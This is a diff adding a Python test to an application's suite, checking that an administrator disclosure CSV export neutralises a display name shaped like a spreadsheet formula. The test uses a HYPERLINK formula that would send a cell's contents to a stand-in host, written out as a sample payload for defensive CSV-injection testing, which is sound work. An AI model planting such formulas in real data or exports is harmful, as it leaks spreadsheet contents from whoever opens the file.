@@ -35,6 +35,22 @@ def _number(sessions, case_id):
         return s.get(Case, case_id).case_number
 
 
+def test_a_name_that_looks_like_a_formula_reaches_the_csv_as_text(world, web, sessions):
+    """A display name an administrator typed is not run by the spreadsheet that opens the answer."""
+    name = '=HYPERLINK("http://example.invalid/?"&A1,"開く")'
+    with unit_of_work(sessions) as s:
+        reader = s.scalar(select(User).where(User.login == "m-receiving"))
+        reader.display_name = name
+        casefile.read_case(s, reader, world.case_id)
+    number = _number(sessions, world.case_id)
+    admin = web(_user(sessions, world.logins["admin"]))
+    body = admin.get(f"/admin/disclosure.csv?case={number}").get_data(as_text=True)
+    table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
+    names = [row[3] for row in table[1:] if row[2] == "m-receiving"]
+    assert names and set(names) == {"'" + name}
+    assert not [cell for row in table for cell in row if cell[:1] in ("=", "+", "-", "@")]
+
+
 def test_admin_answers_who_looked_at_the_record_on_a_page_and_as_csv(world, web, sessions):
     with unit_of_work(sessions) as s:  # a read from a known address
         from engine import audit
